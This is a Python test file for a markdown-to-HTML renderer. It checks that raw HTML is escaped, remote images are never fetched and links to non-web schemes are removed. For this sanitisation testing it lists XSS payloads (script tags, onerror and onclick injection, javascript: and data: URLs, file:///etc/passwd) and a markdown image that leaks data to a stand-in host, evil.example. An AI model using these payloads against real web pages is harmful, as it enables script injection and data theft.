from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kagura_kernel.render.foreign import MARKDOWN_CHARACTERS, markdown_html

SAFE_TAGS = re.compile("p|h[1-6]|ul|ol|li|blockquote|pre|code|strong|em|s|a|span|hr|br|table|thead|tbody|tr|th|td")
SAFE_ATTRIBUTES = {"href", "rel", "target", "class", "style", "start", "title"}

HOSTILE = st.sampled_from(
    [
        "<script>",
        "</pre>",
        "<img src=x onerror=alert(1)>",
        "![a](",
        "[b](",
        "javascript:alert(1)",
        "data:text/html,x",
        ")",
        "`",
        "```\n",
        "\n\n",
        "> ",
        "- ",
        "| a | b |\n|--|--|\n",
        "&#x6a;avascript:",
        "<http://x.y>",
        "\u202e",
        '" onclick="x',
    ]
)


class Tags(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))


def test_markdown_is_rendered():
    html = markdown_html("**bold**, `code`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n")
    assert "<strong>bold</strong>" in html
    assert "<table>" in html


def test_raw_html_is_shown_as_text():
    assert "&lt;script&gt;" in markdown_html("<script>alert(1)</script>")


def test_an_image_is_never_fetched():
    html = markdown_html("![the secret](https://evil.example/?data=42)")
    assert "<img" not in html
    assert "[image: the secret]" in html


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "/api/shutdown",
        "//x",
    ],
)
def test_a_link_that_leads_elsewhere_than_to_the_web_is_no_link(target):
    assert "<a " not in markdown_html(f"[click]({target})")


def test_a_web_link_opens_without_telling_where_it_came_from():
    [(_, attributes)] = [seen for seen in Tags(markdown_html("[docs](https://example.org)")).seen if seen[0] == "a"]
    assert attributes == {"href": "https://example.org", "rel": "noopener noreferrer nofollow", "target": "_blank"}


@given(st.lists(st.one_of(HOSTILE, st.text(max_size=8)), max_size=12))
def test_no_text_makes_a_tag_or_an_attribute_that_can_do_something(parts):
    for tag, attributes in Tags(markdown_html("".join(parts))).seen:
        assert SAFE_TAGS.fullmatch(tag)
        assert set(attributes) <= SAFE_ATTRIBUTES
        assert attributes.get("style") in (None, "text-align:left", "text-align:right", "text-align:center")
        assert (attributes.get("href") or "https://").split(":")[0].lower() in {"http", "https", "mailto"}


def test_of_a_passage_without_end_only_the_beginning_is_read_as_markdown():
    html = markdown_html("*so*\n" * 20 + "[" * 40_000)
    assert html.startswith("<p><em>so</em>")
    read, rest = html.split("<pre>")
    assert read.count("[") <= MARKDOWN_CHARACTERS
    assert (read + rest).count("[") == 40_000
    assert rest.endswith("[</pre>")


def test_the_beginning_of_a_long_passage_ends_with_a_line_and_the_rest_is_escaped():
    line = "word " * 20 + "\n"
    read, rest = markdown_html(line * 1000 + "<b>").split("<pre>")
    assert rest.startswith("word word")
    assert rest.endswith("&lt;b&gt;</pre>")
    assert read.rstrip().endswith("word</p>")
